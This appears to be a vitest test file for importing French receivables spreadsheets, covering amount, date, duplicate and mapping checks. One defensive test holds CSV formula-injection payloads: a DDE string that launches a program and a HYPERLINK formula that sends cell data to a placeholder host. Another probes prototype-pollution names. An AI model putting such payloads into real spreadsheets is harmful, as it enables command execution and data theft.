import { expect, test } from 'vitest';
import { applyMapping } from './apply-mapping.ts';
import { guessMapping } from './guess-mapping.ts';
import type { TableMapping } from './mapping.ts';
import type { OpenItemRow } from './open-item-row.ts';
import type { Cell, TableRow } from './table-row.ts';

const TITLES = ['Code client', 'Nom client', 'N° facture', 'Type de pièce', 'Date facture', 'Échéance', 'Montant TTC', 'Reste dû', 'Devise', 'Libellé'];
const table = (...rows: readonly (readonly Cell[])[]): TableRow[] => [TITLES, ...rows].map((cells, index) => ({ line: index + 1, cells }));
const PROOF: readonly Cell[] = ['C9', 'Preuve', 'F9', '', '13/01/2026', '13/02/2026', '9,90', '9,90', '', ''];

type Applied = { items: readonly OpenItemRow[]; codes: [string, number][]; accepted: boolean };

function apply(rows: TableRow[], mapping: TableMapping = guessMapping(rows).mapping): Applied {
  const { items, summary } = applyMapping({ mapping, currency: 'EUR' }, rows);
  return { items, accepted: summary.accepted, codes: summary.problems.map((problem) => [problem.code.replace('intake.', ''), problem.line]) };
}
const row = (changes: Readonly<Record<string, Cell>>): Cell[] => {
  const base: Readonly<Record<string, Cell>> = { 'Code client': 'C1', 'Nom client': 'Dupont', 'N° facture': 'F1', 'Date facture': '02/01/2026', Échéance: '02/02/2026', 'Montant TTC': '100,00' };
  return TITLES.map((title) => changes[title] ?? base[title] ?? '');
};
const one = (changes: Readonly<Record<string, Cell>>): Applied => apply(table(row(changes), PROOF));

test('a row becomes a typed item', () => {
  const { items, accepted, codes } = one({ 'Reste dû': '40,00', Libellé: 'Chantier' });
  expect([accepted, codes]).toEqual([true, []]);
  expect(items[0]).toMatchObject({
    line: 2, customerCode: 'C1', customerName: 'Dupont', document: 'F1', kind: 'invoice', side: 'debit', issuedOn: '2026-01-02', dueOn: '2026-02-02',
    amount: 10_000n, openAmount: 4_000n, currency: 'EUR', paidOn: null, label: 'Chantier', terms: '',
  });
});

test.each<[string, Readonly<Record<string, Cell>>, string, string, bigint]>([
  ['negative amount', { 'Montant TTC': '-50,00' }, 'creditNote', 'credit', 5_000n],
  ['brackets', { 'Montant TTC': '(50,00)' }, 'creditNote', 'credit', 5_000n],
  ['word avoir', { 'Type de pièce': 'Avoir', 'Montant TTC': '50,00' }, 'creditNote', 'credit', 5_000n],
  ['words credit note', { 'Type de pièce': 'Credit Note', 'Montant TTC': '50,00' }, 'creditNote', 'credit', 5_000n],
  ['avoir, already negative', { 'Type de pièce': 'AV', 'Montant TTC': '-50,00' }, 'creditNote', 'credit', 5_000n],
  ['UNTDID 381', { 'Type de pièce': '381' }, 'creditNote', 'credit', 10_000n],
  ['avoir in the label', { Libellé: 'Avoir sur F0' }, 'creditNote', 'credit', 10_000n],
  ['acompte', { 'Type de pièce': 'Facture d\'acompte' }, 'deposit', 'debit', 10_000n],
  ['règlement', { 'Type de pièce': 'Règlement' }, 'receipt', 'credit', 10_000n],
  ['à-nouveau', { 'Type de pièce': 'À-nouveau' }, 'opening', 'debit', 10_000n],
  ['negative à-nouveau', { 'Type de pièce': 'AN', 'Montant TTC': '-1,00' }, 'opening', 'credit', 100n],
  ['facture', { 'Type de pièce': 'Facture' }, 'invoice', 'debit', 10_000n],
  ['unknown kind', { 'Type de pièce': 'Divers' }, 'other', 'debit', 10_000n],
  ['workbook number', { 'Montant TTC': { number: '1234.5600000000001' } }, 'invoice', 'debit', 123_456n],
])('%s', (...[, changes, kind, side, amount]) => expect(one(changes).items[0]).toMatchObject({ kind, side, amount }));

test.each<[string, Readonly<Record<string, Cell>>, string]>([
  ['no customer', { 'Code client': '', 'Nom client': ' ' }, 'tableCustomerMissing'],
  ['no amount', { 'Montant TTC': '' }, 'tableAmountMissing'],
  ['no number', { 'Montant TTC': 'cent' }, 'tableAmountUnreadable'],
  ['formula for an amount', { 'Montant TTC': '=1+1' }, 'tableAmountUnreadable'],
  ['scientific notation', { 'Montant TTC': '1e5' }, 'tableAmountUnreadable'],
  ['three decimals', { 'Montant TTC': '1234,567' }, 'tableAmountDecimals'],
  ['other decimal mark', { 'Montant TTC': { number: '1.005' } }, 'tableAmountDecimals'],
  ['out of range', { 'Montant TTC': '99999999999999999999,99' }, 'tableAmountOutOfRange'],
  ['31 February', { Échéance: '31/02/2026' }, 'tableDayUnreadable'],
  ['29/02/2027', { Échéance: '29/02/2027' }, 'tableDayUnreadable'],
  ['year 9999', { Échéance: '9999-12-31' }, 'tableDayUnreadable'],
  ['1900-01-00', { Échéance: '1900-01-00' }, 'tableDayUnreadable'],
  ['26/1/6', { Échéance: '26/1/6' }, 'tableDayUnreadable'],
  ['unknown currency', { Devise: 'XYZ' }, 'tableCurrencyUnknown'],
  ['signs differ', { 'Reste dû': '-5,00' }, 'tableSignsDiffer'],
])('%s refuses the file at its line', (_, changes, code) => {
  const { accepted, codes, items } = one(changes);
  expect(accepted).toBe(false);
  expect(codes).toContainEqual([code, 2]);
  expect(items.map((item) => item.line)).toEqual([3]);
});

test.each<[string, Readonly<Record<string, Cell>>, string]>([
  ['due before issue', { Échéance: '01/01/2026' }, 'tableDueBeforeIssue'],
  ['open above amount', { 'Reste dû': '100,01' }, 'tableOpenAboveAmount'],
  ['zero amount', { 'Montant TTC': '0,00' }, 'tableZeroAmount'],
])('%s is a warning', (_, changes, code) => expect(one(changes)).toMatchObject({ accepted: true, codes: [[code, 2]] }));

test('a mapping that proves nothing refuses ambiguous values instead of guessing by line', () => {
  const rows = table(row({ 'Montant TTC': '1.234', Échéance: '2026-03-02' }));
  const { mapping } = guessMapping(rows);
  expect(apply(rows, mapping).codes).toEqual([['tableDecimalUnproven', 2]]);
  expect(apply(rows, { ...mapping, dayOrder: 'dmy', decimalStyle: 'comma' }).items[0]?.amount).toBe(123_400n);
  expect(apply(table(row({})), { ...mapping, decimalStyle: 'comma' }).codes).toEqual([['tableDayOrderUnproven', 2]]);
});

test('a value against the proven mark is refused', () => {
  expect(apply(table(row({ 'Montant TTC': '12.34' })), { ...guessMapping(table(PROOF)).mapping }).codes).toEqual([['tableDecimalMixed', 2]]);
});

test('the same document with the same due day is a double, with another one an instalment', () => {
  expect(apply(table(row({}), row({}), PROOF))).toMatchObject({ accepted: false, codes: [['tableDocumentTwice', 3]] });
  expect(apply(table(row({}), row({ 'Montant TTC': '200,00' }), PROOF)).codes).toEqual([['tableDocumentTwice', 3]]);
  expect(apply(table(row({}), row({ Échéance: '02/03/2026' }), PROOF))).toMatchObject({ accepted: true, codes: [] });
  expect(apply(table(row({}), row({ 'Code client': 'C2' }), PROOF))).toMatchObject({ accepted: true, codes: [['tableDocumentTwoCustomers', 3]] });
});

test('totals, blank rows, repeated titles and extra cells', () => {
  const rows = table(row({}), TITLES.map(() => ''), TITLES, ['Total C1', '', '', '', '', '', '100,00'], PROOF, ['Total général', '', '', '', '', '', '109,90']);
  expect(apply(rows)).toMatchObject({ accepted: true, codes: [['tableHeaderRepeated', 4], ['tableTotalSkipped', 5], ['tableTotalSkipped', 7]] });
  expect(apply(table([...row({}), 'trop'], PROOF))).toMatchObject({ accepted: false, codes: [['tableExtraCells', 2]] });
  expect(apply(table())).toMatchObject({ accepted: false, codes: [['tableNoRows', 0]] });
});

test.each(['=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '＝1', '=HYPERLINK("http://x/?d="&A1)', ';=1'])('formula-like text %j is kept verbatim', (text) => {
  expect(one({ Libellé: text, 'Nom client': text }).items[0]).toMatchObject({ label: text, customerName: text });
});

test('debit and credit columns', () => {
  const rows: TableRow[] = [['Compte client', 'Pièce', 'Libellé', 'Débit', 'Crédit'], ['C1', 'F1', 'Facture', '100,00', ''], ['C1', 'R1', 'Virement reçu', '', '60,00'], ['C1', 'X', '', '0,00', '1,50'], ['C1', 'Y', '', '1,00', '1,00']].map(
    (cells, index) => ({ line: index + 1, cells }),
  );
  const { items, codes } = apply(rows);
  expect(items.map((item) => [item.kind, item.side, item.amount])).toEqual([['invoice', 'debit', 10_000n], ['receipt', 'credit', 6_000n], ['other', 'credit', 150n]]);
  expect(codes).toEqual([['tableBothSides', 5]]);
});

test('names that objects have of their own are customers like any other', () => {
  const { items } = apply(table(row({ 'Code client': '__proto__', 'N° facture': 'constructor' }), row({ 'Code client': 'toString', 'N° facture': '__proto__' }), PROOF));
  expect(items.map((item) => item.customerCode)).toEqual(['__proto__', 'toString', 'C9']);
  expect(one({ Devise: 'constructor' }).codes).toContainEqual(['tableCurrencyUnknown', 2]);
});

test('a mapping to a column the file does not have', () => {
  const { mapping } = guessMapping(table(PROOF));
  expect(apply(table(row({})), { ...mapping, columns: { ...mapping.columns, email: 40 } }).codes).toContainEqual(['tableColumnOutOfRange', 0]);
  expect(apply(table(row({})), { ...mapping, columns: {} }).codes).toContainEqual(['tableNothingMapped', 0]);
});
